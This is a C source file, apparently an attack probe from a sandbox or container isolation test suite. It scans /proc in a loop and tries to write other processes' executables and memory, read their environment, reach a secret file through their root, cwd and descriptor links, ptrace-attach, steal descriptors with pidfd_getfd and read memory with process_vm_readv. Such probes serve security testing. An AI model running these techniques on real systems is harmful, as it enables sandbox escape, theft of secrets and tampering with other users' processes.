/* Everything that may be tried on a process that enters, in a loop. */
#include "attack.h"

static void look(int pid, const char *part, int flags) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, part);
    int fd = open(path, flags | O_CLOEXEC);
    if (fd >= 0) {
        if (flags & (O_WRONLY | O_RDWR)) {
            printf("%s opened for writing\n", path);
            said("write", pwrite(fd, MARK, strlen(MARK), 0));
        } else if (!(flags & O_DIRECTORY)) {
            show_fd(path, fd);
        }
        close(fd);
    }
}

static void seize(int pid) {
    char bytes[4096];
    int status;
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
        printf("traces %d\n", pid);
        waitpid(pid, &status, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    int process = syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 0; process >= 0 && fd < 16; fd++) {
        int got = syscall(SYS_pidfd_getfd, process, fd, 0);
        struct stat stat;
        if (got >= 0) {
            if (fstatat(got, "etc/secret", &stat, 0) == 0) {
                int file = openat(got, "etc/secret", O_RDONLY);
                show_fd("etc/secret by a descriptor of who enters", file);
                close(file);
            }
            close(got);
        }
    }
    close(process);
    struct iovec local = {bytes, sizeof bytes}, remote = {(void *)0x400000, sizeof bytes};
    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) > 0) {
        printf("reads memory of %d\n", pid);
    }
}

static void ambush(void) {
    int me = getpid();
    /* What a program that enters may be asked to run: itself, by its own name in /proc. */
    int script = open("/tmp/again", O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
    dprintf(script, "#!/proc/self/exe\n");
    close(script);
    printf("waiting\n");
    for (;;) {
        DIR *processes = opendir("/proc");
        struct dirent *entry;
        while (processes && (entry = readdir(processes))) {
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid == me) {
                continue;
            }
            look(pid, "exe", O_WRONLY);
            look(pid, "mem", O_RDWR);
            look(pid, "environ", O_RDONLY);
            look(pid, "root/etc/secret", O_RDONLY);
            look(pid, "cwd/etc/secret", O_RDONLY);
            look(pid, "fd/3/etc/secret", O_RDONLY);
            seize(pid);
            while (waitpid(-1, NULL, WNOHANG) > 0) {
            }
        }
        closedir(processes);
    }
}
